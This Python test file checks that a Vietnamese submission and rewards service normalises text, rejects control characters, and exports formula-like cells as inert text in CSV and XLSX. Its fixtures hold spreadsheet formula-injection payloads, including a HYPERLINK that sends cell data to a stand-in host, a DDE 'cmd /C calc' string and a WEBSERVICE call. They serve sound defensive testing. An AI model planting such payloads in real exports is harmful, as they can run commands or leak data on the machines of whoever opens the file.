"""Export poisoning: free text is NFC without control characters at input, and no export cell is a formula."""

from __future__ import annotations

import csv
import io
import unicodedata
from typing import Any

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]
from pydantic import ValidationError

from services.rewards.usecases import view
from services.submissions import domain
from services.submissions.api import exports
from shared import spreadsheets

NFC_NAME = "Nguyễn Thị Ánh Tuyết"
NFD_NAME = unicodedata.normalize("NFD", NFC_NAME)
FORMULAS = [
    '=HYPERLINK("http://x.test/?"&A1,"Bấm")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


def _initiative(**over: Any) -> dict[str, Any]:
    return {
        "title": "Số hoá sổ văn bản đến",
        "authors": [{"person_id": "p-0001", "share": 100}],
        "field_of_application": "Cải cách hành chính",
        "existing_solution": "Sổ giấy.",
        "existing_weaknesses": "Khó tra cứu.",
        "new_solution": "Sổ điện tử.\n\tBước 1: quét.\r\nBước 2: lưu.",
        "novelty": "Mới.",
        "applicability": "Toàn tỉnh.",
        "benefits": "Nhanh hơn.",
        "benefits_kind": "actual",
        **over,
    }


def test_free_text_is_stored_in_nfc_with_line_breaks_kept() -> None:
    assert NFD_NAME != NFC_NAME
    content = domain.InitiativeContent.model_validate(
        _initiative(
            title=unicodedata.normalize("NFD", "Sáng kiến số hoá"), authors=[{"name": NFD_NAME, "share": 100}]
        )
    )
    assert content.title == "Sáng kiến số hoá" and content.authors[0].name == NFC_NAME
    assert content.new_solution == "Sổ điện tử.\n\tBước 1: quét.\nBước 2: lưu."


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("new_solution", "Nội dung\x00ẩn"),
        ("benefits", "Lợi ích\x1b[31m"),
        ("novelty", "Mới\x7f"),
        ("title", "Tên\nhai dòng"),  # a one-line field takes no line break
        ("field_of_application", "Lĩnh vực\tTab"),
    ],
)
def test_control_characters_are_refused_naming_the_field(field: str, value: str) -> None:
    with pytest.raises(ValidationError) as e:
        domain.InitiativeContent.model_validate(_initiative(**{field: value}))
    (err,) = e.value.errors()
    assert err["loc"] == (field,) and err["type"] == "control_character"
    assert "ký tự điều khiển" in err["ctx"]["vi"]


def test_a_narrative_in_an_experience_report_refuses_nul_too() -> None:
    with pytest.raises(ValidationError) as e:
        domain.ProcedureExperience.model_validate(
            {
                "code": "1.004227",
                "used_on": "2023-10-01",
                "level": "toan_trinh",
                "rating": 4,
                "narrative": "a\x00",
            }
        )
    assert e.value.errors()[0]["loc"] == ("narrative",)


def test_formula_like_text_is_written_as_text_in_csv_and_xlsx() -> None:
    rows = [["Tên", "Điểm"], *[[f, -3] for f in FORMULAS], ["Bình thường", 2.5]]
    read = list(csv.reader(io.StringIO(spreadsheets.csv_bytes(rows).decode("utf-8-sig"))))
    assert [r[0] for r in read[1:-1]] == ["'" + f for f in FORMULAS]
    assert read[-1] == ["Bình thường", "2.5"] and read[1][1] == "-3"

    ws = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes([("Trang", rows)]))).active
    cells = [ws.cell(row=i + 2, column=1) for i in range(len(FORMULAS))]
    # exactly as typed, not evaluated (XML reads a CR back as LF)
    assert [c.value for c in cells] == [f.replace("\r", "\n") for f in FORMULAS]
    assert {c.data_type for c in cells} == {"s"} and all(c.quotePrefix for c in cells if c.value[0] == "=")
    assert ws.cell(row=2, column=2).value == -3  # numbers stay numbers


def test_submissions_export_of_a_poisoned_row_is_text_and_never_fails() -> None:
    row = {
        "title": "=1+1",
        "new_solution": "đã lưu trước khi bị chặn\x00",
        "receipt_number": "2023-SK-000001",
    }
    ws = load_workbook(io.BytesIO(exports._xlsx("Hồ sơ", exports.SUBMISSION_COLUMNS, [row]))).active
    values = {ws.cell(row=1, column=i + 1).value: ws.cell(row=2, column=i + 1) for i in range(ws.max_column)}
    assert values["Tên sáng kiến"].value == "=1+1" and values["Tên sáng kiến"].data_type == "s"
    assert values["Nội dung giải pháp mới"].value == "đã lưu trước khi bị chặn"
    text = exports._csv(exports.SUBMISSION_COLUMNS, [row]).decode("utf-8-sig")
    assert next(r for r in csv.DictReader(io.StringIO(text)))["Tên sáng kiến"] == "'=1+1"


def test_rewards_priority_list_exports_a_formula_name_as_text() -> None:
    pl = view.PriorityList(
        edition="2023",
        as_of=None,
        generation=1,
        edition_version=1,
        rules_version=1,
        persons=[
            view.PersonPriority(
                rank=1, person_id="p-1", name='=WEBSERVICE("x")', unit_id="u", points=-1, reasons=[]
            )
        ],
        units=[view.UnitPriority(rank=1, unit_id="u", name="@cmd", points=0, reasons=[])],
        unions=[],
    )
    ws = load_workbook(io.BytesIO(view.to_xlsx(pl)))["Cá nhân"]
    assert ws["C2"].value == '=WEBSERVICE("x")' and ws["C2"].data_type == "s"
    persons = list(csv.reader(io.StringIO(view.to_csv(pl, "persons").decode("utf-8-sig"))))
    units = list(csv.reader(io.StringIO(view.to_csv(pl, "units").decode("utf-8-sig"))))
    assert persons[1][2] == '\'=WEBSERVICE("x")' and units[1][2] == "'@cmd"
